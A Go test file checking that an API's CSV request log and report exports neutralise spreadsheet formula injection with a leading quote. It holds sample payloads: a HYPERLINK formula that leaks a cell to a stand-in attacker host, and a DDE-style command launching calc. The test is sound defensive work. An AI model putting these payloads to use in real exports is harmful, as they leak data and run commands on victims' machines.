package api_test

import (
	"context"
	"encoding/csv"
	"net/http"
	"net/http/httptest"
	"slices"
	"testing"
	"time"

	"github.com/allot-dev/allot"
	"github.com/allot-dev/allot/api"
)

// hyperlink is a task a caller can set with X-Allot-Task: a formula that
// a spreadsheet opening the CSV would run.
const hyperlink = `=HYPERLINK("http://evil.test/?leak="&A2,"Click")`

// TestCSVCellsAreNeutralised checks every CSV the API serves (report,
// request log) for a formula task: it comes out with a leading quote,
// while negative and positive numbers in numeric columns stay numbers.
func TestCSVCellsAreNeutralised(t *testing.T) {
	t.Parallel()
	w := newUsageWorld(t, "")
	e := w.events[1]
	e.Time = e.Time.Add(time.Minute) // the newest call before now
	e.ID, e.Task, e.Session, e.App = "formula", hyperlink, "@SUM(A1:A9)", "+cmd|' /C calc'!A0"
	e.Cost, e.CostKnown = 1_500_000_000, true // 1.5 USD
	if _, err := w.db.Append(context.Background(), []allot.Event{e}); err != nil {
		t.Fatal(err)
	}
	rows := func(path string) [][]string {
		t.Helper()
		resp := get(t, w.srv.URL+path, "ada")
		recs, err := csv.NewReader(resp.Body).ReadAll()
		if err != nil || len(recs) < 2 {
			t.Fatalf("%s: %d rows, %v", path, len(recs), err)
		}
		return recs
	}
	reqs := rows("/api/v1/requests?format=csv&limit=5")
	i := slices.IndexFunc(reqs, func(r []string) bool { return r[0] == "formula" })
	if i < 0 {
		t.Fatalf("requests CSV lacks the call: %q", reqs)
	}
	col := func(name string) string { return reqs[i][slices.Index(reqs[0], name)] }
	for name, want := range map[string]string{"task": "'" + hyperlink, "session": "'@SUM(A1:A9)", "app": "'+cmd|' /C calc'!A0", "cost_usd": "1.500000000"} {
		if got := col(name); got != want {
			t.Errorf("requests CSV %s = %q, want %q", name, got, want)
		}
	}

	mux := http.NewServeMux()
	(&api.Server{Authenticate: func(*http.Request) (allot.Principal, error) {
		return allot.Principal{User: "ada", Role: allot.RoleAdmin}, nil
	},
		Reports: w.db, Now: func() time.Time { return w.now }}).Routes(mux)
	rep := httptest.NewServer(mux)
	t.Cleanup(rep.Close)
	from, to := e.Time.Format(time.DateOnly), e.Time.Add(24*time.Hour).Format(time.DateOnly)
	resp := get(t, rep.URL+"/api/v1/report?by=task&from="+from+"&to="+to+"&format=csv", "ada")
	recs, err := csv.NewReader(resp.Body).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, r := range recs[1:] {
		if r[0] == "'"+hyperlink {
			found = true
			if cost := r[len(r)-1]; cost != "1.500000000" {
				t.Errorf("report CSV cost = %q, want 1.500000000", cost)
			}
		}
		if r[0] == hyperlink {
			t.Errorf("report CSV has the formula raw: %q", r)
		}
	}
	if !found {
		t.Errorf("report CSV lacks the neutralised task: %q", recs)
	}
}
